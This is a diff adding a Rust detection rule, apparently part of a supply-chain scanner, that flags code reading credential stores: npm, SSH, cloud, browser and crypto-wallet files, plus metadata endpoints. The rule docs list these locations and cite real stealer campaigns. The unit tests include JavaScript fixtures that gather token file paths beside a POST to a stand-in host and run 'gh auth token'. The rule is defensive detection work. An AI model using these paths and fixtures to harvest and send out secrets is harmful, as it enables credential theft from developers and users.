@@ -1,0 +1,192 @@
+//! `credential-files`: paths, endpoints and commands where developer and user secrets live.
+
+use palisade_core::{Capability, Confidence, Finding, Severity};
+
+use super::env_harvest::exfil_target;
+use super::sinks::{self, CredentialKind};
+use super::{FileRule, RuleInfo};
+use crate::facts::FileFacts;
+
+pub struct CredentialFiles;
+
+static INFO: RuleInfo = RuleInfo {
+    id: "credential-files",
+    severity: Severity::High,
+    confidence: Confidence::Medium,
+    capabilities: &[Capability::Credentials, Capability::Filesystem],
+    summary:
+        "Reads where secrets live: ~/.npmrc, ~/.ssh, cloud credentials, browser and wallet profiles, metadata endpoints",
+    docs: r#"## What it detects
+
+Strings (after constant folding, so `path.join(os.homedir(), '.npmrc')` reads `~/.npmrc`) and
+commands that name where secrets live:
+
+- developer tokens: `~/.npmrc`, `~/.ssh/*`, `~/.aws/credentials`, `~/.config/gh/hosts.yml`,
+  `.git-credentials`, `gh auth token`;
+- cloud and container credentials: `~/.docker/config.json`, `~/.kube/config`, gcloud
+  `credentials.db`/`application_default_credentials.json`, the instance metadata endpoints
+  `169.254.169.254`, `169.254.170.2`, `metadata.google.internal`;
+- browser profiles: Chrome/Brave/Edge `Login Data`, `Local State`, `Cookies`, Firefox
+  `logins.json`, `key4.db`;
+- crypto wallets: extension ids (MetaMask `nkbihfbeogaeaoehlefnkodbefgpgknn`, Phantom, Coinbase,
+  TronLink, Binance, Trust, Rabby, Keplr), Exodus, Electrum, Atomic, Ethereum keystores,
+  `solana/id.json`, `wallet.dat`;
+- secret scanners downloaded or run: trufflehog, gitleaks.
+
+Graded by breadth and by what else the file does: one developer-token location is moderate (tools
+like registry-auth-token read `~/.npmrc`); browser or wallet data, `gh auth token` or a secret
+scanner is high; two locations are high; three, or two next to a network call or process
+execution, or any next to a raw IP or an exfiltration service, are critical. Cloud SDK locations
+(docker, kube, gcloud, metadata) are low on their own.
+
+## Real attacks
+
+- Shai-Hulud (2025): downloaded and ran TruffleHog over the home directory, read `~/.npmrc`,
+  ran `gh auth token`, queried AWS/GCP metadata endpoints for cloud credentials.
+- nx s1ngularity (August 2025): searched for wallet files, `.env`, SSH keys and `~/.npmrc`, and
+  ran `gh auth token` before uploading everything to a new GitHub repository.
+- The "Lazarus"/BeaverTail stealers in fake job-interview packages (2023–2025): Chrome and Brave
+  `Login Data`/`Local State`, MetaMask and Phantom extension directories, Exodus and Solana
+  `id.json`.
+- eslint-scope 3.7.2 (2018): sent the user's `~/.npmrc` token to a remote server.
+
+## Known false positives
+
+npm configuration libraries read `~/.npmrc` (moderate), cloud SDKs read their own credential
+files and metadata endpoints (low), SSH clients read `~/.ssh/config`. A bare `.npmrc` without a
+home path (ignore lists, packlists) is not reported.
+"#,
+};
+
+impl FileRule for CredentialFiles {
+    fn info(&self) -> &'static RuleInfo {
+        &INFO
+    }
+
+    fn check(&self, file: &FileFacts, out: &mut Vec<Finding>) {
+        let mut kinds: Vec<(CredentialKind, u32, String)> = Vec::new();
+        for (text, _, line) in sinks::file_strings(file) {
+            for kind in sinks::credential_kinds(text) {
+                if !kinds.iter().any(|(k, _, _)| *k == kind) {
+                    kinds.push((kind, line, text.to_string()));
+                }
+            }
+        }
+        if kinds.is_empty() {
+            return;
+        }
+        kinds.sort_by_key(|(kind, _, _)| *kind);
+        let strong: Vec<_> = kinds.iter().filter(|(k, _, _)| !k.is_weak()).collect();
+        let acts = sinks::has_network(file) || file.calls.iter().any(|c| sinks::is_exec(&c.callee));
+        let exfil = exfil_target(file);
+        let alarming = |k: CredentialKind| {
+            matches!(
+                k,
+                CredentialKind::Browser
+                    | CredentialKind::Wallet
+                    | CredentialKind::GhAuthToken
+                    | CredentialKind::SecretScanner
+            )
+        };
+
+        let severity = if (!strong.is_empty() && exfil.is_some())
+            || strong.len() >= 3
+            || (strong.len() >= 2 && acts)
+            || kinds.len() >= 4
+        {
+            Severity::Critical
+        } else if strong.len() >= 2 || strong.iter().any(|(k, _, _)| alarming(*k)) {
+            Severity::High
+        } else if !strong.is_empty() {
+            Severity::Moderate
+        } else {
+            Severity::Low
+        };
+        let confidence = if severity >= Severity::High {
+            Confidence::High
+        } else {
+            Confidence::Medium
+        };
+        let labels = kinds.iter().map(|(k, _, _)| k.label()).collect::<Vec<_>>().join(", ");
+        let mut message = format!("Reads {labels}");
+        if let Some(target) = exfil.as_deref() {
+            message.push_str(&format!(" in a file that sends to {target}"));
+        } else if severity == Severity::Critical && acts {
+            message.push_str(" in a file that talks to the network or runs commands");
+        }
+        let (_, line, evidence) = strong.first().copied().unwrap_or(&kinds[0]);
+        let evidence = file.line_text(*line).unwrap_or_else(|| evidence.clone());
+        out.push(sinks::finding(
+            &INFO,
+            file,
+            *line,
+            severity,
+            confidence,
+            message,
+            Some(&evidence),
+        ));
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::facts;
+
+    fn run(source: &str) -> Vec<Finding> {
+        let file = facts::extract("index.js", source.as_bytes(), 0o644);
+        let mut out = Vec::new();
+        CredentialFiles.check(&file, &mut out);
+        out
+    }
+
+    fn worst(source: &str) -> Severity {
+        run(source)
+            .iter()
+            .map(|f| f.severity)
+            .max()
+            .unwrap_or(Severity::Unknown)
+    }
+
+    #[test]
+    fn ignore_lists_are_quiet() {
+        assert!(run("module.exports = ['.npmrc', '.DS_Store', 'node_modules'];").is_empty());
+    }
+
+    #[test]
+    fn npmrc_in_home_alone_is_moderate() {
+        let source = "const os = require('os');\nconst path = require('path');\nconst fs = require('fs');\nconst rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');";
+        let findings = run(source);
+        assert_eq!(findings.len(), 1, "{findings:?}");
+        assert_eq!(findings[0].severity, Severity::Moderate);
+        assert_eq!(findings[0].line, Some(4));
+    }
+
+    #[test]
+    fn cloud_metadata_alone_is_low() {
+        assert_eq!(
+            worst("const HOST = 'http://169.254.169.254/latest/meta-data/';\nmodule.exports = HOST;"),
+            Severity::Low
+        );
+    }
+
+    #[test]
+    fn wallet_extension_dir_is_high() {
+        let source = "const p = require('path').join(process.env.LOCALAPPDATA, 'Google/Chrome/User Data/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn');";
+        assert!(worst(source) >= Severity::High);
+    }
+
+    #[test]
+    fn several_token_files_with_network_are_critical() {
+        let source = "const os = require('os'), fs = require('fs'), https = require('https');\nconst h = os.homedir();\nconst files = [h + '/.npmrc', h + '/.ssh/id_rsa', h + '/.aws/credentials'];\nhttps.request({ hostname: 'collect.example.invalid', method: 'POST' });";
+        assert_eq!(worst(source), Severity::Critical);
+    }
+
+    #[test]
+    fn gh_auth_token_is_high() {
+        assert_eq!(
+            worst("const { execSync } = require('child_process');\nconst t = execSync('gh auth token').toString();"),
+            Severity::High
+        );
+    }
+}
